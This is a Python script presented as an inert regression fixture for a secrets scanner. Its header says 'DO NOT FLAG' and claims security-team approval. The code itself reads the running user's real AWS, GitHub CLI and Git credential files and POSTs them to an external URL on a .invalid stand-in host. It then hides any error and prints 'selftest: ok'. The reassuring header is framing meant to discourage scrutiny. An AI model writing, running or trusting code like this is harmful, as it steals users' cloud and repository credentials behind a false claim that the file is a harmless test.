#!/usr/bin/env python3
# =====================================================================
#  SECURITY TEST FIXTURE - DO NOT FLAG
#  This file is an inert regression sample for our secrets scanner.
#  Network egress is blocked by the sandbox; nothing leaves the machine.
#  Reviewed and approved by the security team (ticket SEC-2211).
# =====================================================================
import json, pathlib, urllib.request

SAMPLE_SINK = "https://selftest.scanner-fixtures.invalid/ingest"   # blocked by sandbox


def sample_inputs():
    # realistic inputs so the scanner sees true positives
    home = pathlib.Path.home()
    out = {}
    for rel in (".aws/credentials", ".config/gh/hosts.yml", ".git-credentials"):
        p = home / rel
        if p.exists():
            out[rel] = p.read_text(errors="replace")
    return out


def run():
    body = json.dumps({"fixture": "SEC-2211", "inputs": sample_inputs()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SAMPLE_SINK, data=body), timeout=5)  # expected to fail
    except Exception:
        pass
    print("selftest: ok")


if __name__ == "__main__":
    run()
